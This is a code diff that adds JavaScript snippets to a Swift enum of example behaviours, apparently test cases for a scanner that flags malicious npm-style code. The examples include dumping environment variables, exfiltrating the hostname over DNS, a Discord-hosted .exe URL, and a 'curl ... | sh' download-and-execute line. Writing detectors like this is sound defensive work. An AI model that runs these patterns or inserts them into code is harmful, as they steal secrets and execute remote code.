@@ -85,6 +85,7 @@ enum JavaScriptBehaviourExamples {
         .init(.readEnvironmentAll, "const all = { ...↓process.env };"),
         .init(.readEnvironmentAll, "for (const k in ↓process.env) {}"),
         .init(.readEnvironmentAll, "const e = process.env;\nsend(↓e);"),
+        .init(.readEnvironmentAll, "const { execSync } = require('child_process');\nconst all = ↓execSync('env');"),
         // Network and URLs.
         .init(.importNetworkModule, "const https = ↓require('https');"),
         .init(.importNetworkModule, "↓import axios from 'axios';"),
@@ -111,6 +112,8 @@ enum JavaScriptBehaviourExamples {
         .init(.urlAppHosting, "fetch(↓'https://c-x.onrender.com/u', {method: 'POST'});"),
         .init(.urlWebhook, "const token = ↓'8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac';"),
         .init(.dnsLookup, "const dns = require('dns');\ndns.↓lookup('example.com', () => {});"),
+        .init(.dnsLookup, "require('child_process').↓exec('nslookup example.com');"),
+        .init(.urlPaste, "const u = ↓'https://media.discordapp.net/attachments/1/2/x.exe';"),
         .init(
             .dnsExfiltration,
             "const dns = require('dns');\nconst os = require('os');\ndns.↓lookup(os.hostname() + '.x.com');"),
@@ -155,6 +158,7 @@ enum JavaScriptBehaviourExamples {
             });
             """),
         .init(.downloadExecute, "fetch(u).then(r => r.text()).then(t => ↓eval(t));"),
+        .init(.downloadExecute, "const cp = require('child_process');\ncp.↓exec('curl -s https://x.example/i | sh');"),
         .init(.downloadExecute, "const r = await fetch(u);\nconst code = await r.text();\nnew ↓Function(code)();"),
         .init(
             .downloadExecute,
